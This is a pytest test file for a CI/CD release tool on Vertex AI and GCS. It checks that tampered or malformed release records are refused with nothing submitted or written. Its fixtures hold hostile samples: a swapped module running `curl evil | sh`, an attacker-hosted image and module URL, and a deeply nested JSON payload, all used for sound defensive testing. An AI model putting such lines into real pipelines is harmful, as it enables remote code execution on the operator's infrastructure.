"""A tampered or corrupt release record is refused by every task that would run what it names: one line, exit
1, nothing submitted to Vertex, nothing written to the bucket (the outside probe's defect 1 and its corrupt-record
tracebacks).

The tasks run as a user runs them (`python -m invoke`) against fake-gcs-server and the Vertex stand-in, with a
release made by tests/support/released.py and then rewritten the way a training task holding the pipelines'
service account could rewrite it.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from tests.support import released
from tests.support.released import REPO, spec, spec_name
from tests.support.warm_python import run_module

ROOT = Path(__file__).resolve().parents[2]
COMMIT = "a" * 40
RECORD = "releases/penguin-cicd/latest.json"


@pytest.fixture
def bucket(gcs_emulator, gcs_client, gcs_bucket, vertex_standin, tmp_path):
    setting = released.settings_for(gcs_bucket.name, vertex_standin.endpoint)
    released.release(gcs_client, setting, tmp_path, commit=COMMIT, variant="a")
    return gcs_bucket


@pytest.fixture
def env(bucket, vertex_standin):
    setting = released.settings_for(bucket.name, vertex_standin.endpoint)
    clean = {k: v for k, v in os.environ.items() if not k.startswith("INVOKE_")}
    return {
        **clean,
        "INVOKE_CICD_PROJECT": setting.project,
        "INVOKE_CICD_REGION": setting.region,
        "INVOKE_CICD_BUCKET": setting.bucket,
        "INVOKE_CICD_IMAGE_REPO": REPO,
        "INVOKE_CICD_SERVICE_ACCOUNT": setting.service_account,
        "INVOKE_CICD_API_ENDPOINT": vertex_standin.endpoint,
        "INVOKE_CICD_ANONYMOUS_CREDENTIALS": "true",
        "INVOKE_CICD_REQUEST_DEADLINE_SECONDS": "10",
    }


def invoke(env: dict, *args: str, cwd: Path = ROOT) -> subprocess.CompletedProcess:
    return run_module("invoke", *args, cwd=cwd, env=env, timeout=300)


def record(bucket) -> dict:
    return json.loads(bucket.blob(RECORD).download_as_bytes())


def rewrite(bucket, body: dict | str) -> None:
    bucket.blob(RECORD).upload_from_string(body if isinstance(body, str) else json.dumps(body))


def objects(bucket) -> dict[str, int]:
    return {blob.name: blob.generation for blob in bucket.client.list_blobs(bucket.name)}


def evil_spec(bucket) -> None:
    """The probe's attack: a spec in another bucket whose image is the attacker's, named by the record."""
    other = bucket.client.create_bucket(f"{bucket.name}-x")
    job = spec(image="attacker.example/evil:1")
    other.blob(f"specs/{spec_name(job)}").upload_from_string(json.dumps(job))
    body = record(bucket)
    body["inputs"]["spec"] = f"gs://{other.name}/specs/{spec_name(job)}"
    body["inputs"]["image"] = "attacker.example/evil:1"
    rewrite(bucket, body)


def module_changed(key: str, value: str):
    def change(bucket) -> None:
        body = record(bucket)
        body["inputs"]["modules"][key] = value.format(bucket=bucket.name)
        rewrite(bucket, body)

    return change


def module_bytes_swapped(bucket) -> None:
    uri = record(bucket)["inputs"]["modules"]["model_module"]
    bucket.blob(uri.split("/", 3)[3]).upload_from_string("import os\nos.system('curl evil | sh')\n")


def field(key: str, value):
    def change(bucket) -> None:
        body = record(bucket)
        (body["inputs"] if key == "hyperparameters" else body)[key] = value
        rewrite(bucket, body)

    return change


TAMPERED = {
    "spec-elsewhere-evil-image": (evil_spec, "is not a spec of this pipeline"),
    "https-module": (module_changed("model_module", "https://attacker.example/model.py"), "module https://"),
    "missing-module": (
        module_changed("model_module", "gs://{bucket}/modules/" + "0" * 64 + "/model.py"),
        "is not in the bucket",
    ),
    "module-bytes": (module_bytes_swapped, "sha256 is not the one its name carries"),
    "hyperparameters": (field("hyperparameters", '{"hidden_units": "8"}'), "hyperparameters break the rule"),
    "commit": (field("commit", "main"), "commit 'main' is not a 40-hex commit"),
    "not-json": (lambda b: rewrite(b, "{"), "not JSON"),
    "deep": (lambda b: rewrite(b, "[" * 20_000 + "]" * 20_000), "nested more than"),
}


def assert_refused(result: subprocess.CompletedProcess, says: str) -> None:
    assert result.returncode == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stderr, result.stderr[-3000:]
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and says in lines[0], result.stderr[-3000:]


@pytest.mark.parametrize("case", TAMPERED, ids=list(TAMPERED))
def test_a_retrain_of_a_tampered_record_is_refused_with_nothing_submitted_or_written(
    bucket, env, vertex_standin, case
):
    tamper, says = TAMPERED[case]
    tamper(bucket)
    before = objects(bucket)

    assert_refused(invoke(env, "pipeline.retrain"), says)

    assert vertex_standin.created_bodies == [], "nothing submitted"
    assert objects(bucket) == before, "nothing written"


@pytest.mark.parametrize("case", ["spec-elsewhere-evil-image", "module-bytes", "deep"])
def test_a_schedule_of_a_tampered_record_is_refused(bucket, env, vertex_standin, case):
    tamper, says = TAMPERED[case]
    tamper(bucket)
    before = objects(bucket)

    assert_refused(invoke(env, "schedule.create", "--cron", "0 3 * * 1"), says)

    assert vertex_standin.schedules.schedules == {} and vertex_standin.created_bodies == []
    assert objects(bucket) == before


@pytest.mark.parametrize("case", ["spec-elsewhere-evil-image", "https-module"])
def test_the_chains_submit_refuses_a_tampered_record_and_writes_no_new_one(
    clone, bucket, env, vertex_standin, case
):
    tamper, says = TAMPERED[case]
    tamper(bucket)
    before = objects(bucket)

    assert_refused(invoke(env, "pipeline.submit", "--force", cwd=clone), says)

    assert vertex_standin.created_bodies == [] and objects(bucket) == before, "no run, no new record"


def test_a_run_that_lost_the_record_race_is_recorded_as_such_and_says_what_was_written(
    bucket, gcs_client, vertex_standin
):
    from cicd_release.core.errors import WriteConflict
    from cicd_release.plan import release_state
    from cicd_release.publish.snapshots import resolve
    from cicd_release.run.launch import launch

    setting = released.settings_for(bucket.name, vertex_standin.endpoint)
    last = release_state.read_record(setting, gcs_client)  # both submits read the same generation
    code = release_state.released(setting, gcs_client, last)
    data = resolve(gcs_client, setting.resolved_data_root)
    launch(setting, gcs_client, code.request(data, '{"seed": 1}', "retrain"), last=last)
    with pytest.raises(WriteConflict) as caught:
        launch(setting, gcs_client, code.request(data, '{"seed": 2}', "retrain"), last=last)

    first, second = (b["_jobId"] for b in vertex_standin.created_bodies)
    assert first != second, "two runs of one commit in one second: two job ids"
    message = str(caught.value)
    assert message.startswith(f"The run {second} started, but gs://{bucket.name}/{RECORD} changed since")
    assert f"releases/penguin-cicd/runs/{second}.json (the run recorded as not released)" in message
    assert "\n" not in message
    runs = {
        name: json.loads(bucket.blob(f"releases/penguin-cicd/runs/{name}.json").download_as_bytes())
        for name in (first, second)
    }
    assert runs[first]["release_record"] == "moved to this run"
    assert runs[second]["release_record"] == "lost: another release moved it first"
    assert record(bucket)["inputs"]["hyperparameters"] == '{"seed": 1}', "the record stays the winner's"
